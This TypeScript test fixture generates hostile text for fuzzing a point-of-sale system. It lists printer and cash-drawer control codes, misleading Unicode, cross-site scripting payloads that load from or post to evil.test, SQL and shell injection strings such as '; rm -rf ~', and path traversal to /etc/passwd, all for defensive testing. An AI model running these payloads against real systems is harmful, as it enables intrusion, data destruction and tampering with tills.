/*
 * Text as somebody would send it who means harm: printer commands, markup, control and direction characters,
 * halves of characters, and far too much of it. Whatever is not on a list comes from a seed.
 */
import type { Chance } from '../../../shared/order/testing/chance'

/** Commands of receipt printers, poles and terminals, as a text would carry them. */
export const PRINTER_ATTACKS: readonly string[] = [
  '\u001bp\u0000\u0019\u00fa',
  '\u001bp00',
  '\u001dV\u0000',
  '\u001dVA\u0003',
  '\u001b@',
  '\u001d(E\u0003\u0000\u0006\u0000\u0000',
  '\u001d(C\u0005\u0000\u0000\u0041\u0000\u0000\u0000',
  '\u001d(L\u0006\u00000E\u0020\u0020\u0001\u0001',
  '\u001cq\u0001\u0001\u0000\u0001\u0000',
  '\u001cg1\u0000\u0000\u0000\u0000\u0000\u0001\u0000x',
  '\u0010\u0014\u0001\u0000\u0001',
  '\u0010\u0014\u0008\u0001\u0003\u0014\u0001\u0006\u0002\u0008',
  '\u0010\u0004\u0001',
  '\u0010\u0005\u0002',
  '\u001b\u0007\u000a\u000a\u0007',
  '\u001bd\u0003',
  '\u001b\u001d)B\u0002\u00000\u0001',
  '\u0007\u0017\u001a\u001c\u0018',
  '\u001bQA00000.01\r',
  '\u009b1;2H',
  '\u009bp\u0090\u0091\u009d',
  '\u001b]0;till\u0007',
  'é→\u0080…Ç\u0099',
  '\u001bp00'.repeat(1024),
]

/** Characters that hide, turn or double what is read. */
export const READING_ATTACKS: readonly string[] = [
  '\u202e00.01\u2066',
  '\u202e99.1$ ylno\u202c',
  'a\u202b\u202d\u2067b\u2069',
  '\u061c\u200e\u200f١٢٣',
  'מבצע 5.00',
  'Z\u0301\u0301\u0301'.repeat(20),
  'e' + '\u0301'.repeat(200),
  '\ud83d',
  '\udc00x\ud800',
  '🐈‍⬛🐾',
  '\u0000',
  'milk\u0000 0.01',
  '\u200b'.repeat(40),
  '\ufeff\ufffe\uffff',
  '§¶•☺♥→◄⌂',
  'Пёс и Łódź',
  'x'.repeat(4096),
  'W\u0338'.repeat(2048),
]

/** Markup, addresses and code. Each would set `window.hacked` or call home if it ever ran. */
export const PAGE_ATTACKS: readonly string[] = [
  '<img src=x onerror=window.hacked=1>',
  '<img src="https://evil.test/x.png">',
  '"><svg onload=window.hacked=1>',
  '<script>window.hacked=1</script>',
  '</title><script src=https://evil.test/x.js></script>',
  '<iframe srcdoc="<script>parent.hacked=1</script>">',
  '<a href="javascript:window.hacked=1" id=hacked>free</a>',
  'javascript:window.hacked=1',
  'data:text/html,<script>window.hacked=1</script>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<form action=https://evil.test/><input name=pin autofocus onfocus=window.hacked=1>',
  '<b id=hacked>bold</b>',
  '<base href=https://evil.test/>',
  '<math><mtext></p><style><img src onerror=window.hacked=1>',
  '&lt;img src=x onerror=window.hacked=1&gt;',
  '${window.hacked=1}',
  '{{constructor.constructor("window.hacked=1")()}}',
  "'-(window.hacked=1)-'",
  '" onmouseover="window.hacked=1',
  'url(https://evil.test/x)',
]

/** Things that mean something to a database, a shell, a path, a format, a log or a language. */
export const MEANING_ATTACKS: readonly string[] = [
  "'; DROP TABLE events; --",
  "Robert'); DELETE FROM events;",
  '$(touch hacked)',
  '`reboot`',
  '; rm -rf ~',
  '../../../../etc/passwd',
  '..\\..\\settings.json',
  '%s%s%n%d',
  '%0d%0aSet-Cookie: a=b',
  '{"level":"info","msg":"forged"}',
  'first\r\n{"level":"error","msg":"forged"}',
  'first\u2028second\u2029third\u0085fourth',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'NaN',
  '-0',
  '1e308',
  '99999999999999999999',
]

/** Every listed text. */
export const ATTACKS: readonly string[] = [
  ...PRINTER_ATTACKS,
  ...READING_ATTACKS,
  ...PAGE_ATTACKS,
  ...MEANING_ATTACKS,
]

/** Pieces from which new texts are put together. */
const PIECES: readonly string[] = [
  ...['\u001b', '\u001d', '\u0010', '\u0014', '\u001c', '\u0000', '\u0007', '\u0018', '\n', '\r'],
  ...['p', 'V', '@', '(', 'E', 'k', 'a', '0', '1', ' ', '€', 'é', 'Ł', 'Ж', 'ß'],
  ...['\u0080', '\u009b', '\u0099', '\u202e', '\u2066', '\u0301', '\ud83d', '\udc3e', '\u00ad'],
  ...['<', '>', '"', "'", '&', '/', '\\', '{', '}', '%', ';', '='],
]

const LENGTH_MAX = 60
const LONG = 4096

/** One text that means harm. */
export function hostileText(chance: Chance): string {
  switch (chance.below(8)) {
    case 0:
    case 1:
      return chance.among(ATTACKS, '')
    case 2:
      return `${chance.among(ATTACKS, '')}${chance.among(ATTACKS, '')}`
    case 3:
      return `Dog food ${chance.among(ATTACKS, '')} 24 lb`
    case 4:
      return made(chance, () => String.fromCharCode(chance.below(0x10000)))
    case 5:
      return made(chance, () => String.fromCharCode(chance.below(0x100)))
    case 6:
      return chance.once(20)
        ? chance.among(ATTACKS, 'x').repeat(200).slice(0, LONG)
        : made(chance, () => chance.among(PIECES, ''))
    default:
      return made(chance, () => chance.among(PIECES, ''))
  }
}

/** So many of them. */
export function hostileTexts(chance: Chance, count: number): readonly string[] {
  return Array.from({ length: count }, () => hostileText(chance))
}

function made(chance: Chance, piece: () => string): string {
  let text = ''
  for (let left = 1 + chance.below(LENGTH_MAX); left > 0; left -= 1) text += piece()
  return text
}
